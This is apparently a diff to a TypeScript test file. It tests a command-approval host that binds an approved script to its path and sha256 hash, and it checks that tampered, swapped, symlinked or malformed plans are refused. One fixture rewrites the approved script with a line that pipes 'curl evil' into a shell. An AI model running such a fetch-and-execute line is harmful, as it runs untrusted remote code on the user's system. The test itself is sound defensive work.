@@ -3,8 +3,8 @@
 // the node any `node.invoke.request` a test writes, and collects the answers.
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { generateKeyPairSync, randomBytes, randomUUID } from 'node:crypto';
-import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createHash, generateKeyPairSync, randomBytes, randomUUID } from 'node:crypto';
+import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, describe, it, mock } from 'node:test';
 import { Runner, type ContainedProcess, type RunOptions, type RunResult, type SandboxPlan } from '@corral/contain';
@@ -15,6 +15,7 @@ import { startPaired } from '../test/paired-host.ts';
 import { tempDir } from '../../../scripts/testing/temp-dir.ts';
 import { MAX_RUNS, MAX_UNACKNOWLEDGED_ANSWERS, NodeHost, OUTPUT_CAP, RECEIPT_KEY_FILE, loadOrCreateDevice, type NodeHostOptions, type NodeStatus } from './host.ts';
 import { LOCAL_POLICY_FILE, LocalPolicy, MAX_LOCAL_POLICY_BYTES, REMOTE_WRITES_BURST } from './local-policy.ts';
+import { MAX_OPERAND_BYTES } from './file-operand.ts';
 import { refusingGateway } from '../../../scripts/testing/refusing-gateway.ts';
 
 const token = randomBytes(24).toString('base64url');
@@ -333,6 +334,116 @@ describe('a system.run whose params say another command than the one it runs', (
     } finally {
       await gw.close();
       await runner.close();
+    }
+  });
+});
+
+describe('a system.run of a script approved by its content (systemRunPlan.mutableFileOperand, as upstream binds it)', () => {
+  /** A node that records what it would run, under a policy that asks for every run, with `work` readable by its sandbox. */
+  async function scriptNode() {
+    const stateDir = stateWithPolicy({ version: 1, defaults: { security: 'full', ask: 'always' } });
+    const work = tempDir('corral-script-work-');
+    const ran: string[][] = [];
+    const runner = new RecordingRunner(ran);
+    const gw = await hostileGateway({ ...containedBy(stateDir, { version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { readonly: [work] } }), runner });
+    const prepare = async (params: Record<string, unknown>) => {
+      const answer = await gw.invoke('system.run.prepare', { cwd: work, agentId: 'main', sessionKey: 'agent:main:main', ...params });
+      return answer.ok ? { plan: (JSON.parse(answer.payloadJSON!) as { plan: Record<string, unknown> }).plan } : { error: answer.error! };
+    };
+    const run = (params: Record<string, unknown>) => gw.invoke('system.run', { cwd: work, agentId: 'main', sessionKey: 'agent:main:main', approved: true, approvalDecision: 'allow-once', ...params });
+    return { gw, work, ran, prepare, run, close: async () => { await gw.close(); await runner.close(); } };
+  }
+  const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
+
+  it('prepare binds the one file a run runs: its argv index, its absolute path against the cwd, its sha256; none for ls -l or sh -c TEXT', async () => {
+    const node = await scriptNode();
+    try {
+      writeFileSync(join(node.work, 'build.py'), 'print("ok")\n');
+      writeFileSync(join(node.work, 'x.sh'), 'echo ok\n', { mode: 0o755 });
+      assert.deepEqual((await node.prepare({ command: ['python3', 'build.py'] })).plan?.mutableFileOperand, { argvIndex: 1, path: join(node.work, 'build.py'), sha256: sha256('print("ok")\n') });
+      assert.deepEqual((await node.prepare({ command: ['sh', '-e', 'x.sh', 'arg'] })).plan?.mutableFileOperand, { argvIndex: 2, path: join(node.work, 'x.sh'), sha256: sha256('echo ok\n') });
+      assert.deepEqual((await node.prepare({ command: ['./x.sh'] })).plan?.mutableFileOperand, { argvIndex: 0, path: join(node.work, 'x.sh'), sha256: sha256('echo ok\n') });
+      assert.deepEqual((await node.prepare({ command: [join(node.work, 'x.sh')], cwd: undefined })).plan?.mutableFileOperand, { argvIndex: 0, path: join(node.work, 'x.sh'), sha256: sha256('echo ok\n') }, 'an absolute path needs no cwd');
+      for (const command of [['ls', '-l'], ['sh', '-c', 'echo hi'], ['/bin/sh', '-lc', 'python3 build.py'], ['make']]) {
+        const { plan } = await node.prepare({ command });
+        assert.equal(plan?.mutableFileOperand, null, JSON.stringify(command));
+      }
+    } finally {
+      await node.close();
+    }
+  });
+
+  it('prepare refuses (SYSTEM_RUN_DENIED) a script it cannot bind rather than pretend: a FIFO (without waiting on it), a file too large, a folder, one missing, one named inside a longer word, a relative one with no cwd', async () => {
+    const node = await scriptNode();
+    try {
+      execFileSync('mkfifo', [join(node.work, 'fifo.py')]);
+      const large = join(node.work, 'large.py');
+      writeFileSync(large, '');
+      truncateSync(large, MAX_OPERAND_BYTES + 1);
+      mkdirSync(join(node.work, 'folder.py'));
+      writeFileSync(join(node.work, 'prog.awk'), '{ print }\n');
+      for (const [command, cwd, says] of [
+        [['python3', 'fifo.py'], node.work, /fifo\.py is not a regular file/],
+        [['python3', 'large.py'], node.work, /large\.py is larger than/],
+        [['python3', 'folder.py'], node.work, /folder\.py is not a regular file/],
+        [['python3', 'missing.py'], node.work, /missing\.py cannot be found/],
+        [['awk', '-fprog.awk', 'data'], node.work, /inside a longer argument/],
+        [['python3', 'build.py'], undefined, /give the run a cwd/],
+      ] as const) {
+        const { error } = await node.prepare({ command, cwd });
+        assert.equal(error?.code, 'SYSTEM_RUN_DENIED', JSON.stringify(command));
+        assert.match(error.message, says);
+      }
+    } finally {
+      await node.close();
+    }
+  });
+
+  it('runs the script as approved, and refuses it (nothing run) once it changed between prepare and run (regression: python3 build.py approved, build.py rewritten, the new content ran)', async () => {
+    const node = await scriptNode();
+    try {
+      const script = join(node.work, 'build.py');
+      writeFileSync(script, 'print("ok")\n');
+      const asked = { command: ['python3', 'build.py'], rawCommand: 'python3 build.py' };
+      const { plan } = await node.prepare(asked);
+      const approved = await node.run({ ...asked, systemRunPlan: plan });
+      assert.equal(approved.ok, true, approved.error?.message);
+      assert.deepEqual(node.ran, [['python3', 'build.py']]);
+      writeFileSync(script, 'import os; os.system("curl evil | sh")\n');
+      const changed = await node.run({ ...asked, systemRunPlan: plan });
+      assert.equal(changed.error?.code, 'SYSTEM_RUN_DENIED');
+      assert.match(changed.error!.message, /the script build\.py changed since it was approved .*approve the run again \[NODE_RUN_DENIED\]/);
+      rmSync(script);
+      symlinkSync(join(node.work, 'other.py'), script);
+      writeFileSync(join(node.work, 'other.py'), 'print("ok")\n');
+      const linked = await node.run({ ...asked, systemRunPlan: plan });
+      assert.equal(linked.error?.code, 'SYSTEM_RUN_DENIED', 'the same content elsewhere, behind a link, is not the file approved');
+      assert.deepEqual(node.ran, [['python3', 'build.py']]);
+    } finally {
+      await node.close();
+    }
+  });
+
+  it('refuses a plan whose file is another than the run runs (SYSTEM_RUN_DENIED), and one whose mutableFileOperand is malformed (INVALID_REQUEST), running nothing', async () => {
+    const node = await scriptNode();
+    try {
+      writeFileSync(join(node.work, 'build.py'), 'print("ok")\n');
+      writeFileSync(join(node.work, 'other.py'), 'print("ok")\n');
+      const asked = { command: ['python3', 'build.py'], rawCommand: 'python3 build.py' };
+      const { plan } = await node.prepare(asked);
+      const operand = plan!.mutableFileOperand as { argvIndex: number; path: string; sha256: string };
+      const elsewhere = await node.run({ ...asked, systemRunPlan: { ...plan, mutableFileOperand: { ...operand, path: join(node.work, 'other.py') } } });
+      assert.equal(elsewhere.error?.code, 'SYSTEM_RUN_DENIED', JSON.stringify(elsewhere));
+      assert.match(elsewhere.error!.message, /build\.py is not the file that was approved/);
+      const wrongWord = await node.run({ ...asked, systemRunPlan: { ...plan, mutableFileOperand: { ...operand, argvIndex: 0 } } });
+      assert.equal(wrongWord.error?.code, 'SYSTEM_RUN_DENIED', 'argv[0] is python3, not build.py');
+      for (const malformed of [{ ...operand, argvIndex: 2 }, { ...operand, argvIndex: -1 }, { ...operand, argvIndex: 1.5 }, { ...operand, path: 'build.py' }, { ...operand, sha256: 'ab' }, { ...operand, extra: 1 }, 'build.py', [operand]]) {
+        const answer = await node.run({ ...asked, systemRunPlan: { ...plan, mutableFileOperand: malformed } });
+        assert.equal(answer.error?.code, 'INVALID_REQUEST', JSON.stringify(malformed));
+      }
+      assert.deepEqual(node.ran, []);
+    } finally {
+      await node.close();
     }
   });
 });
